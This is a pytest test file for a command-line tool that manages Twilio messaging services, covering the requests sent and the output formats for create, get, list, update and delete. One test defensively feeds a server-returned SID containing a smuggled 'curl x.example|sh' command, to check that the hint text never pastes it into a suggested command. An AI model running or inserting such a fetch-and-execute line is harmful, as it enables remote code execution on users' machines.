"""msgsvc services create/get/list/update/delete: the exact request each sends and its exact
output in the three modes (terminal, pipe, --json), with --json and --profile before or after
the command."""

from __future__ import annotations

import base64
import json

import pytest
from conftest import ACCOUNT_SID, BASIC_AUTH, OTHER_SID, SERVICE_SID, base_url_of, page, run_installed, service
from corehelp import assert_request, lines, sent
from emulator_helpers import emulator  # noqa: F401 (fixture)
from factories import assert_listed_then_created, assert_service_list, expect_service_list

OTHER_TOKEN = "other-profile-token-0123456789abcdef"
OTHER_AUTH = "Basic " + base64.b64encode(f"{ACCOUNT_SID}:{OTHER_TOKEN}".encode()).decode()

# One service as `services get` shows it in a pipe: field TAB value, links left out.
SERVICE_TSV = f"""account_sid\t{ACCOUNT_SID}
sid\t{SERVICE_SID}
date_created\t2015-07-30T20:12:31Z
date_updated\t2015-07-30T20:12:33Z
friendly_name\tAlerts
inbound_request_url\thttps://www.example.com/
inbound_method\tPOST
fallback_url\t
fallback_method\tPOST
status_callback\thttps://www.example.com
sticky_sender\ttrue
mms_converter\ttrue
smart_encoding\tfalse
fallback_to_long_code\ttrue
area_code_geomatch\ttrue
validity_period\t600
scan_message_content\tinherit
synchronous_validation\ttrue
usecase\tmarketing
us_app_to_person_registered\tfalse
use_inbound_webhook_on_number\ttrue
url\thttps://messaging.twilio.com/v1/Services/{SERVICE_SID}
"""


def service_table(record: dict) -> list[str]:
    """The field/value view on a terminal: two aligned columns, every value whole; the `url`
    row is left out (TSV and --json keep it)."""
    pairs = [line.split("\t") for line in SERVICE_TSV.splitlines() if not line.startswith("url\t")]
    if record is not None:
        assert record == service()
    width = max(len(key) for key, _ in pairs)
    short = {"2015-07-30T20:12:31Z": "2015-07-30 20:12", "2015-07-30T20:12:33Z": "2015-07-30 20:12"}  # on a terminal only
    return [f"{'FIELD':<{width}}  VALUE"] + [f"{key:<{width}}  {short.get(value, value)}".rstrip() for key, value in pairs]


LIST_TABLE = [
    "SID                                 FRIENDLY NAME  USECASE    A2P    CREATED",
    f"{SERVICE_SID}  Alerts         marketing  false  2015-07-30 20:12",
    f"{OTHER_SID}  Second                    true   2015-07-30 20:12",
]
LIST_TSV = (
    f"{SERVICE_SID}\tAlerts\tmarketing\tfalse\t2015-07-30T20:12:31Z\n"
    f"{OTHER_SID}\tSecond\t\ttrue\t2015-07-30T20:12:31Z\n"
)


def two_services() -> list[dict]:
    return [service(), service(OTHER_SID, "Second", usecase=None, us_app_to_person_registered=True)]


def with_json(where: str, *args: str) -> list[str]:
    """`--json` before the command (a global option) or after it (the command's own)."""
    return ["--json", *args] if where == "before" else [*args, "--json"]


@pytest.fixture
def other_profile(profile, httpserver):
    """A second profile, not active, with its own token: --profile other must use it."""
    from msgsvc.local import config

    data = config.read_config()
    data["profiles"]["other"] = {
        "account_sid": ACCOUNT_SID, "auth_token": OTHER_TOKEN,
        "base_url": base_url_of(httpserver), "max_retries": 0,
    }
    config.write_config(data)
    return "other"


# --- create ---------------------------------------------------------------------------------

ALL_FIELDS = [
    "--friendly-name", "Alerts & more", "--inbound-request-url", "https://example.com/sms?a=1&b=2",
    "--inbound-method", "GET", "--fallback-url", "http://example.com/fallback", "--fallback-method", "post",
    "--status-callback", "https://example.com/status", "--sticky-sender", "--no-mms-converter",
    "--smart-encoding", "--scan-message-content", "disable", "--no-fallback-to-long-code",
    "--area-code-geomatch", "--validity-period", "36000", "--no-synchronous-validation",
    "--usecase", "poll", "--use-inbound-webhook-on-number",
]
ALL_FORM = (
    "FriendlyName=Alerts+%26+more&InboundRequestUrl=https%3A%2F%2Fexample.com%2Fsms%3Fa%3D1%26b%3D2"
    "&InboundMethod=GET&FallbackUrl=http%3A%2F%2Fexample.com%2Ffallback&FallbackMethod=POST"
    "&StatusCallback=https%3A%2F%2Fexample.com%2Fstatus&StickySender=true&MmsConverter=false"
    "&SmartEncoding=true&ScanMessageContent=disable&FallbackToLongCode=false&AreaCodeGeomatch=true"
    "&ValidityPeriod=36000&SynchronousValidation=false&Usecase=poll&UseInboundWebhookOnNumber=true"
)


def test_create_sends_every_field_with_its_wire_name(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(OTHER_SID, "Second"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    result = msgsvc("services", "create", *ALL_FIELDS, "--json")
    assert result.code == 0, result.err
    assert_listed_then_created(httpserver, ALL_FORM)


@pytest.mark.parametrize("where", ["before", "after"])
def test_create_json_prints_the_object_as_returned(msgsvc, profile, httpserver, where):
    returned = service(extra_field_from_the_future={"nested": [1, 2]})
    expect_service_list(httpserver, service(OTHER_SID, "Second"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(returned, status=201)
    result = msgsvc(*with_json(where, "services", "create", "--friendly-name", "Alerts"))
    assert (result.code, result.err) == (0, "")
    assert json.loads(result.out) == returned
    assert result.out.count("\n") == 1  # compact: one line in a pipe
    assert_listed_then_created(httpserver, "FriendlyName=Alerts")


def test_create_in_a_pipe_prints_field_tab_value(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(OTHER_SID, "Second"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    result = msgsvc("services", "create", "--friendly-name", "Alerts")
    assert result.code == 0
    assert result.out == SERVICE_TSV
    assert result.err == f"Created {SERVICE_SID} (Alerts)\n"


def test_create_on_a_terminal_prints_a_field_value_table(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(OTHER_SID, "Second"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    result = msgsvc("services", "create", "--friendly-name", "Alerts", tty=True)
    assert result.code == 0
    assert lines(result.out) == service_table(None)
    assert result.err == f"Created {SERVICE_SID} (Alerts)\n"


def test_create_json_on_a_terminal_is_indented(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(OTHER_SID, "Second"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    result = msgsvc("services", "create", "--friendly-name", "Alerts", "--json", tty=True)
    assert result.code == 0
    assert result.out == json.dumps(service(), indent=2) + "\n"


@pytest.mark.parametrize("where", ["before", "after"])
@pytest.mark.parametrize("flag", ["--profile", "-p"])
def test_profile_flag_before_or_after_the_command_chooses_the_credentials(msgsvc, other_profile, httpserver, where, flag):
    expect_service_list(httpserver, service(OTHER_SID, "Second"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    args = ["services", "create", "--friendly-name", "Alerts"]
    args = [flag, "other", *args] if where == "before" else [*args, flag, "other"]
    result = msgsvc(*args)
    assert result.code == 0, result.err
    assert_listed_then_created(httpserver, "FriendlyName=Alerts", auth=OTHER_AUTH)


def test_create_installed_in_a_subprocess(profile, httpserver):
    expect_service_list(httpserver, service(OTHER_SID, "Second"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    proc = run_installed("services", "create", "--friendly-name", "Alerts", "--usecase", "Marketing")
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, SERVICE_TSV, f"Created {SERVICE_SID} (Alerts)\n")
    assert_listed_then_created(httpserver, "FriendlyName=Alerts&Usecase=marketing")


def test_create_refuses_a_friendly_name_another_service_has(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(OTHER_SID, "Second"), service())
    result = msgsvc("services", "create", "--friendly-name", "Alerts", "--usecase", "poll")
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        f"msgsvc: a service is already named 'Alerts': {SERVICE_SID} (created 2015-07-30T20:12:31Z)\n"
        f"hint: nothing was sent; use it (msgsvc services get {SERVICE_SID}), or add --allow-duplicate-name to "
        "create another with that name\n")
    (listing,) = sent(httpserver)  # no POST
    assert_service_list(listing)


def test_a_taken_names_hint_pastes_no_command_made_of_what_the_server_calls_its_sid(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service("MG1; curl x.example|sh", "Alerts"))
    result = msgsvc("services", "create", "--friendly-name", "Alerts")
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        "msgsvc: a service is already named 'Alerts': MG1; curl x.example|sh (created 2015-07-30T20:12:31Z)\n"
        "hint: nothing was sent; use it by its SID, or add --allow-duplicate-name to create another with that name\n")
    assert len(sent(httpserver)) == 1


def test_a_taken_names_hint_is_no_crash_when_the_server_sends_no_sid(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(None, "Alerts"))
    result = msgsvc("services", "create", "--friendly-name", "Alerts")
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        "msgsvc: a service is already named 'Alerts': None (created 2015-07-30T20:12:31Z)\n"
        "hint: nothing was sent; use it by its SID, or add --allow-duplicate-name to create another with that name\n")
    assert len(sent(httpserver)) == 1


def test_create_refuses_a_name_several_services_share_and_lists_them(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(), service(OTHER_SID, "Alerts", date_created="2016-01-01T00:00:00Z"))
    result = msgsvc("services", "create", "--friendly-name", "Alerts", "--json")
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        f"msgsvc: 2 services are already named 'Alerts': {SERVICE_SID} (created 2015-07-30T20:12:31Z); "
        f"{OTHER_SID} (created 2016-01-01T00:00:00Z)\n"
        "hint: nothing was sent; use one of them by its SID, or add --allow-duplicate-name to create another "
        "with that name\n")
    assert len(sent(httpserver)) == 1


@pytest.mark.parametrize("other", ["alerts", "Alerts ", "Alerts\u200b", "Ale\u0301rts"])
def test_create_compares_names_as_the_service_finder_does_exactly(msgsvc, profile, httpserver, other):
    """Case, spaces and invisible characters count, as when a name is looked up: `other` is
    another name, so creating "Alerts" beside it is no duplicate."""
    expect_service_list(httpserver, service(OTHER_SID, other))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    result = msgsvc("services", "create", "--friendly-name", "Alerts")
    assert (result.code, result.err) == (0, f"Created {SERVICE_SID} (Alerts)\n")
    assert_listed_then_created(httpserver, "FriendlyName=Alerts")


def test_create_with_allow_duplicate_name_creates_another(msgsvc, profile, httpserver):
    expect_service_list(httpserver, service(OTHER_SID, "Alerts"))
    httpserver.expect_oneshot_request("/v1/Services", method="POST").respond_with_json(service(), status=201)
    result = msgsvc("services", "create", "--friendly-name", "Alerts", "--allow-duplicate-name", "--json")
    assert (result.code, result.err) == (0, "")
    assert json.loads(result.out) == service()
    assert_listed_then_created(httpserver, "FriendlyName=Alerts")


@pytest.fixture
def emu_behind_proxy(emulator, monkeypatch):
    """The in-process emulator behind the tests' fault proxy; msgsvc talks to the proxy."""
    from faults import FaultProxy

    front = FaultProxy(emulator.base_url)
    for var, value in {"TWILIO_ACCOUNT_SID": emulator.account_sid, "TWILIO_AUTH_TOKEN": emulator.auth_token,
                       "MSGSVC_BASE_URL": front.url, "MSGSVC_MAX_RETRIES": "0"}.items():
        monkeypatch.setenv(var, value)
    yield emulator, front
    front.stop()


def named(emu, name: str) -> list[str]:
    return [s["sid"] for s in emu.call("GET", "/v1/Services").json()["services"] if s["friendly_name"] == name]


def test_create_refusal_against_the_emulator(msgsvc, isolated, emu_behind_proxy):
    """End to end: the second create of a name is refused; the emulator keeps one service."""
    emu, proxy = emu_behind_proxy
    first = msgsvc("services", "create", "--friendly-name", "Twice", "--json")
    assert first.code == 0, first.err
    sid = json.loads(first.out)["sid"]
    second = msgsvc("services", "create", "--friendly-name", "Twice")
    assert (second.code, second.out) == (2, "")
    assert second.err.startswith(f"msgsvc: a service is already named 'Twice': {sid} (created ")
    assert named(emu, "Twice") == [sid]
    assert proxy.sent("POST") == ["/v1/Services"]


def test_a_lost_create_of_an_allowed_duplicate_adopts_the_new_one_not_the_old(msgsvc, isolated, emu_behind_proxy):
    """The service already named so was created a moment ago (within the check's clock skew):
    the look for what a lost create made leaves out the services listed before it."""
    from factories import create_service

    emu, proxy = emu_behind_proxy
    old = create_service(emu, "Twice")
    proxy.add("POST", "/v1/Services", status=503)  # after forwarding: the emulator made it
    result = msgsvc("services", "create", "--friendly-name", "Twice", "--allow-duplicate-name", "--json")
    assert result.code == 0, result.err
    new = json.loads(result.out)["sid"]
    assert sorted(named(emu, "Twice")) == sorted([old, new]) and new != old
    assert proxy.sent("POST") == ["/v1/Services"]  # never sent again


# --- get ------------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["before", "after"])
def test_get_by_sid_json(msgsvc, profile, httpserver, where):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}").respond_with_json(service())
    result = msgsvc(*with_json(where, "services", "get", SERVICE_SID))
    assert (result.code, result.err) == (0, "")
    assert json.loads(result.out) == service()
    (request,) = sent(httpserver)
    assert_request(request, "GET", f"/v1/Services/{SERVICE_SID}")


def test_get_in_a_pipe_and_on_a_terminal(msgsvc, profile, httpserver):
    httpserver.expect_request(f"/v1/Services/{SERVICE_SID}").respond_with_json(service())
    piped = msgsvc("services", "get", SERVICE_SID)
    assert (piped.code, piped.out, piped.err) == (0, SERVICE_TSV, "")
    # On a terminal it also reads the service's numbers (for a toll-free line: none here).
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}/PhoneNumbers").respond_with_json(page("phone_numbers", []))
    shown = msgsvc("services", "get", SERVICE_SID, tty=True)
    assert (shown.code, shown.err) == (0, "")
    assert lines(shown.out) == service_table(None)


@pytest.mark.parametrize("where", ["before", "after"])
def test_get_with_profile_flag(msgsvc, other_profile, httpserver, where):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}").respond_with_json(service())
    args = ["services", "get", SERVICE_SID]
    result = msgsvc(*(["-p", "other", *args] if where == "before" else [*args, "--profile", "other"]))
    assert result.code == 0
    assert_request(sent(httpserver)[0], "GET", f"/v1/Services/{SERVICE_SID}", auth=OTHER_AUTH)


def test_get_installed_in_a_subprocess(profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}").respond_with_json(service())
    proc = run_installed("--json", "services", "get", SERVICE_SID)
    assert (proc.returncode, proc.stderr) == (0, "")
    assert json.loads(proc.stdout) == service()


# --- list -----------------------------------------------------------------------------------


def test_list_in_a_pipe(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request("/v1/Services", query_string="PageSize=50").respond_with_json(page("services", two_services()))
    result = msgsvc("services", "list")
    assert (result.code, result.out, result.err) == (0, LIST_TSV, "")
    (request,) = sent(httpserver)
    assert_request(request, "GET", "/v1/Services", query="PageSize=50")


def test_list_on_a_terminal_is_a_table_with_whole_sids(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", two_services()))
    result = msgsvc("services", "list", tty=True)
    assert (result.code, result.err) == (0, "")
    assert lines(result.out) == LIST_TABLE


@pytest.mark.parametrize("where", ["before", "after"])
def test_list_json_is_the_array_of_api_objects(msgsvc, profile, httpserver, where):
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", two_services()))
    result = msgsvc(*with_json(where, "services", "list"))
    assert (result.code, result.err) == (0, "")
    assert json.loads(result.out) == two_services()


@pytest.mark.parametrize("where", ["before", "after"])
def test_list_with_profile_flag(msgsvc, other_profile, httpserver, where):
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", []))
    args = ["services", "list"]
    result = msgsvc(*(["--profile", "other", *args] if where == "before" else [*args, "-p", "other"]))
    assert result.code == 0
    assert_request(sent(httpserver)[0], "GET", "/v1/Services", query="PageSize=50", auth=OTHER_AUTH)


@pytest.mark.parametrize(
    "args, tty, out",
    [
        (["--json"], False, "[]\n"),
        (["--json"], True, "[]\n"),
        ([], False, ""),
    ],
)
def test_an_empty_list_is_success(msgsvc, profile, httpserver, args, tty, out):
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", []))
    result = msgsvc("services", "list", *args, tty=tty)
    assert (result.code, result.out, result.err) == (0, out, "")


def test_an_empty_list_on_a_terminal_says_so_on_stderr(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", []))
    result = msgsvc("services", "list", tty=True)
    assert (result.code, result.out) == (0, "")
    assert result.err == "No services yet: msgsvc services create --friendly-name NAME\n"


def test_list_tsv_keeps_long_values_whole_and_one_line(msgsvc, profile, httpserver):
    name = "A name with\ttabs\nand newlines that is long " + "x" * 30
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", [service(name=name)]))
    result = msgsvc("services", "list")
    assert result.out == (
        f"{SERVICE_SID}\tA name with\\ttabs\\nand newlines that is long {'x' * 30}\tmarketing\tfalse\t2015-07-30T20:12:31Z\n"
    )


def test_list_installed_in_a_subprocess(profile, httpserver):
    httpserver.expect_oneshot_request("/v1/Services", query_string="PageSize=50").respond_with_json(page("services", two_services()))
    proc = run_installed("services", "list")
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, LIST_TSV, "")


# --- update ---------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["before", "after"])
def test_update_sends_only_the_options_given(msgsvc, profile, httpserver, where):
    updated = service(validity_period=14400, sticky_sender=False, fallback_url=None)
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="POST").respond_with_json(updated)
    result = msgsvc(*with_json(where, "services", "update", SERVICE_SID, "--validity-period", "14400",
                               "--no-sticky-sender", "--fallback-url", ""))
    assert (result.code, result.err) == (0, "")
    assert json.loads(result.out) == updated
    (request,) = sent(httpserver)
    assert_request(request, "POST", f"/v1/Services/{SERVICE_SID}",
                   form="FallbackUrl=&StickySender=false&ValidityPeriod=14400")


def test_update_in_a_pipe_and_on_a_terminal(msgsvc, profile, httpserver):
    httpserver.expect_request(f"/v1/Services/{SERVICE_SID}", method="POST").respond_with_json(service())
    piped = msgsvc("services", "update", SERVICE_SID, "--usecase", "marketing")
    assert (piped.code, piped.out) == (0, SERVICE_TSV)
    assert piped.err == f"Updated {SERVICE_SID} (usecase)\n"
    shown = msgsvc("services", "update", SERVICE_SID, "--usecase", "marketing", "--smart-encoding", tty=True)
    assert lines(shown.out) == service_table(None)
    assert shown.err == f"Updated {SERVICE_SID} (smart-encoding, usecase)\n"
    for request in sent(httpserver):
        assert request.method == "POST"
    assert sent(httpserver)[1].get_data(as_text=True) == "SmartEncoding=true&Usecase=marketing"


def test_update_by_name_resolves_then_posts(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", two_services()))
    httpserver.expect_oneshot_request(f"/v1/Services/{OTHER_SID}", method="POST").respond_with_json(service(OTHER_SID, "Second"))
    result = msgsvc("services", "update", "Second", "--friendly-name", "Renamed", "-p", "test")
    assert result.code == 0, result.err
    listing, post = sent(httpserver)
    assert_request(listing, "GET", "/v1/Services", query="PageSize=1000")
    assert_request(post, "POST", f"/v1/Services/{OTHER_SID}", form="FriendlyName=Renamed")


def test_update_installed_in_a_subprocess(profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="POST").respond_with_json(service())
    proc = run_installed("services", "update", SERVICE_SID, "--status-callback", "https://example.com/s", "--json")
    assert (proc.returncode, proc.stderr) == (0, "")
    assert json.loads(proc.stdout) == service()
    assert_request(sent(httpserver)[0], "POST", f"/v1/Services/{SERVICE_SID}",
                   form="StatusCallback=https%3A%2F%2Fexample.com%2Fs")


# --- delete ---------------------------------------------------------------------------------


def expect_delete(httpserver, record: dict | None = None) -> None:
    record = record or service()
    httpserver.expect_oneshot_request(f"/v1/Services/{record['sid']}", method="GET").respond_with_json(record)
    httpserver.expect_oneshot_request(f"/v1/Services/{record['sid']}", method="DELETE").respond_with_data("", status=204)


@pytest.mark.parametrize("extra", [[], ["--json"], ["-y"]])
def test_delete_with_yes_fetches_then_deletes(msgsvc, profile, httpserver, extra):
    expect_delete(httpserver)
    result = msgsvc("services", "delete", SERVICE_SID, "--yes", *extra)
    assert (result.code, result.out, result.err) == (0, "", f"Deleted {SERVICE_SID} (Alerts)\n")
    fetch, delete = sent(httpserver)
    assert_request(fetch, "GET", f"/v1/Services/{SERVICE_SID}")
    assert_request(delete, "DELETE", f"/v1/Services/{SERVICE_SID}")


def test_delete_with_profile_flag_after_the_command(msgsvc, other_profile, httpserver):
    expect_delete(httpserver)
    result = msgsvc("services", "delete", SERVICE_SID, "--yes", "-p", "other")
    assert result.code == 0
    assert [r.headers["Authorization"] for r in sent(httpserver)] == [OTHER_AUTH, OTHER_AUTH]


def test_delete_by_name(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request("/v1/Services", method="GET").respond_with_json(page("services", two_services()))
    expect_delete(httpserver)
    result = msgsvc("--profile", "test", "services", "delete", "Alerts", "--yes")
    assert result.code == 0, result.err
    assert [(r.method, r.path) for r in sent(httpserver)] == [
        ("GET", "/v1/Services"), ("GET", f"/v1/Services/{SERVICE_SID}"), ("DELETE", f"/v1/Services/{SERVICE_SID}"),
    ]


def test_delete_without_yes_and_no_terminal_is_refused_and_sends_nothing(msgsvc, profile, httpserver):
    result = msgsvc("services", "delete", SERVICE_SID)
    assert result.code == 2
    assert result.out == ""
    assert result.err == (
        "msgsvc: refusing to delete without confirmation\n"
        "hint: add --yes to delete from a script\n"
    )
    assert sent(httpserver) == []


@pytest.mark.parametrize("answer", ["y\n", "yes\n", "Y\n"])
def test_delete_in_a_terminal_asks_and_deletes_on_yes(msgsvc, profile, httpserver, answer):
    expect_delete(httpserver)
    result = msgsvc("services", "delete", SERVICE_SID, stdin=answer, stdin_tty=True)
    assert result.code == 0
    assert result.out == ""  # the question goes to stderr, never to stdout
    assert result.err == f"Delete {SERVICE_SID} (Alerts)? [y/N]: Deleted {SERVICE_SID} (Alerts)\n"
    assert [r.method for r in sent(httpserver)] == ["GET", "DELETE"]


@pytest.mark.parametrize("answer", ["n\n", "\n", "", "whatever\n"])
def test_delete_in_a_terminal_keeps_the_service_unless_yes(msgsvc, profile, httpserver, answer):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    result = msgsvc("services", "delete", SERVICE_SID, stdin=answer, stdin_tty=True)
    assert result.code == 2
    assert result.out == ""
    assert result.err.startswith(f"Delete {SERVICE_SID} (Alerts)? [y/N]: ")
    assert result.err.endswith("Nothing deleted.\n")
    assert [r.method for r in sent(httpserver)] == ["GET"]


A2P_MESSAGE = (
    f"msgsvc: {SERVICE_SID} (Alerts) is registered for US A2P 10DLC: deleting it deletes its A2P "
    "campaign and immediately halts all US A2P 10DLC messaging through it; a new campaign must be "
    "created and registered again, which can take several days\n"
    "hint: if that is really what you want, add --force\n"
)


def test_delete_refuses_an_a2p_registered_service_without_force(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(
        service(us_app_to_person_registered=True))
    result = msgsvc("services", "delete", SERVICE_SID, "--yes")
    assert (result.code, result.out, result.err) == (2, "", A2P_MESSAGE)
    assert [r.method for r in sent(httpserver)] == ["GET"]


def test_delete_an_a2p_registered_service_with_force(msgsvc, profile, httpserver):
    expect_delete(httpserver, service(us_app_to_person_registered=True))
    result = msgsvc("services", "delete", SERVICE_SID, "--yes", "--force")
    assert (result.code, result.out, result.err) == (0, "", f"Deleted {SERVICE_SID} (Alerts)\n")
    assert [r.method for r in sent(httpserver)] == ["GET", "DELETE"]


def test_delete_installed_in_a_subprocess(profile, httpserver):
    expect_delete(httpserver)
    refused = run_installed("services", "delete", SERVICE_SID, input="y\n")  # stdin is a pipe
    assert refused.returncode == 2
    assert sent(httpserver) == []
    proc = run_installed("services", "delete", SERVICE_SID, "--yes")
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, "", f"Deleted {SERVICE_SID} (Alerts)\n")


# --- name resolution ------------------------------------------------------------------------


def test_name_resolution_exact_match_only(msgsvc, profile, httpserver):
    services = [service(name="alerts"), service(OTHER_SID, "Alerts")]
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", services))
    httpserver.expect_oneshot_request(f"/v1/Services/{OTHER_SID}").respond_with_json(service(OTHER_SID, "Alerts"))
    result = msgsvc("services", "get", "Alerts", "--json")
    assert result.code == 0, result.err
    listing, fetch = sent(httpserver)
    assert_request(listing, "GET", "/v1/Services", query="PageSize=1000")
    assert_request(fetch, "GET", f"/v1/Services/{OTHER_SID}")


def test_name_resolution_follows_every_page(msgsvc, profile, httpserver):
    second = httpserver.url_for("/v1/Services") + "?PageSize=1000&Page=1&PageToken=PT1"
    httpserver.expect_oneshot_request("/v1/Services", query_string="PageSize=1000").respond_with_json(
        page("services", [service()], next_url=second))
    httpserver.expect_oneshot_request("/v1/Services", query_string="PageSize=1000&Page=1&PageToken=PT1").respond_with_json(
        page("services", [service(OTHER_SID, "Second")]))
    httpserver.expect_oneshot_request(f"/v1/Services/{OTHER_SID}").respond_with_json(service(OTHER_SID, "Second"))
    result = msgsvc("services", "get", "Second", "--json")
    assert result.code == 0, result.err
    assert len(sent(httpserver)) == 3


def test_name_resolution_no_match_suggests_close_names(msgsvc, profile, httpserver):
    services = [service(name="Alerts"), service(OTHER_SID, "alerts-eu"), service("MG" + "c" * 32, "Billing")]
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", services))
    result = msgsvc("services", "get", "Alert")
    assert (result.code, result.out) == (3, "")
    assert result.err == "msgsvc: no service is named 'Alert'\nhint: did you mean: 'Alerts', 'alerts-eu'\n"
    assert len(sent(httpserver)) == 1


def test_name_resolution_no_match_and_nothing_close(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", [service()]))
    result = msgsvc("services", "update", "Zebra", "--usecase", "poll")
    assert result.code == 3
    assert result.err == "msgsvc: no service is named 'Zebra'\nhint: list the services with: msgsvc services list\n"
    assert [r.method for r in sent(httpserver)] == ["GET"]  # nothing updated


def test_name_resolution_several_matches_lists_the_sids(msgsvc, profile, httpserver):
    services = [service(name="Alerts"), service(OTHER_SID, "Alerts", date_created="2016-01-01T00:00:00Z")]
    httpserver.expect_oneshot_request("/v1/Services").respond_with_json(page("services", services))
    result = msgsvc("services", "delete", "Alerts", "--yes")
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        f"msgsvc: 2 services are named 'Alerts': {SERVICE_SID} (created 2015-07-30T20:12:31Z); "
        f"{OTHER_SID} (created 2016-01-01T00:00:00Z)\n"
        "hint: use the SID of the one you mean instead of the name; or rename one: "
        "msgsvc services update SID --friendly-name NEW_NAME\n"
    )
    assert [r.method for r in sent(httpserver)] == ["GET"]


def test_basic_auth_header_is_account_sid_and_token(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}").respond_with_json(service())
    msgsvc("services", "get", SERVICE_SID)
    assert sent(httpserver)[0].headers["Authorization"] == BASIC_AUTH
